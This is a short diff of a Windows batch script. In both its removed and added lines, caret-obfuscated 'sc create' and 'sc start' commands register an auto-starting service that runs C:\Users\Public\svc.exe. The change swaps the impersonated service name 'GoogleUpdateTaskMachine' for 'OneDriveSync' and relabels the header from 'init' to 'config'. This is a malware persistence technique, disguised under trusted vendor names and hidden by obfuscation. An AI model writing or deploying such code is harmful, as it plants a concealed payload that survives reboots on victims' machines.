@@ -1,7 +1,7 @@
-REM init 8504 v1
+REM config 6029 v1
 @echo off
-set atxj=sc cr^e^ate ^G^o^o^gl^eUpdate^Ta^sk^M^ac^h^ine b^in^Path= "cmd.exe /c C:\Users\Public\svc.exe" ^st^ar^t= a^uto
-call %atxj%
+set dirz=^s^c c^r^eate O^n^e^D^riv^e^Syn^c ^bin^Pat^h= "cmd.exe /c C:\Users\Public\svc.exe" s^tart= ^au^to
+call %dirz%
 @echo off
-set htev=^s^c ^st^a^r^t ^G^o^o^g^leUp^da^te^Tas^k^Ma^c^hine
-call %htev%
+set vagr=sc ^st^a^rt OneD^r^iv^eS^yn^c
+call %vagr%
